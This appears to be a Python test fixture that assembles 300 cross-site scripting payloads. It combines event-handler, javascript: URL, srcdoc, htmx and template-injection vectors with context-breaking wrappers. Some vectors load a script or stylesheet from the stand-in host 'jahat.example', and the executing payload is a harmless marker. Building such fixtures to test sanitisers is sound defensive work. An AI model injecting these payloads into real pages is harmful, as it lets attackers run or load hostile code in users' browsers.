"""Three hundred texts that would run, load or change something in a page that took them for its own words."""

RUN = "window.caught=1"
FILLED = str(7331 * 7331)
VECTORS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x",
    f"<math><a xlink:href=javascript:{RUN}>x",
    f"<style onload={RUN}></style>",
    "<base href=//jahat.example/>",
    "<meta http-equiv=refresh content=0;url=//jahat.example>",
    "<link rel=stylesheet href=//jahat.example/x.css>",
    "<script src=//jahat.example/x.js></script>",
    f"<div hx-on:load={RUN} hx-get=/ hx-trigger=load>",
    "<div hx-get=//jahat.example hx-trigger=load>",
    "<template shadowrootmode=open><script>x</script>",
    "{{ 7331 * 7331 }}",
    f"javascript:{RUN}",
    f"<x onclick={RUN} tabindex=1 id=content>",
)
AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "--></script>{}",
    "</select>{}",
    '" autofocus onfocus=window.caught=1 x="{}',
    "&lt;{}&gt;",
    "\\u003c{}",
)
PAYLOADS = tuple(around.replace("{}", vector) for around in AROUND for vector in VECTORS)
# Addresses and pieces of addresses.
LEADING = ("href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post")
NOT_OURS = ("iframe", "object", "embed", "base", "marquee", "audio", "video", "math", "template", "x", "style")
